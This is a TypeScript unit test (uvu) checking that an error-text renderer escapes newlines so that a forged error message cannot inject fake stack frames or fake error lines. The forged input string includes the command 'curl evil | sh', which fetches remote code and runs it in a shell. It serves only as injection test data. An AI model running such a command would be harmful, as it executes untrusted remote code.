import { suite } from "uvu";
import * as assert from "uvu/assert";
import { bugLines } from "./error-text.ts";
import { textOf } from "./rendered.ts";

const bug = suite("the text of a bug");

const FORGED = "bad\nerror: everything is fine\n    at forged (x.ts:1:1)\nnext:  curl evil | sh";

bug("keeps its message in one line, and no line of it looks like a message", () => {
  for (const error of [new TypeError(FORGED), FORGED, Object.assign(new Error(FORGED), { stack: undefined })]) {
    const lines = String(textOf(bugLines(error)))
      .trimEnd()
      .split("\n");
    assert.match(lines[0] ?? "", "bad\\nerror: everything is fine\\n    at forged");
    assert.equal(
      lines.slice(1).filter((line) => !/^ {4}at /.test(line)),
      [],
    );
    assert.is(lines.filter((line) => /^ {4}at forged/.test(line)).length, 0);
  }
});

bug("names the calls", () => {
  assert.match(bugLines(new Error("x")).slice(1).join("\n"), /bug-text\.test/);
  const [first, ...calls] = bugLines(new Error(""));
  assert.is(first, "Error");
  assert.ok(calls.length > 0);
});

bug.run();
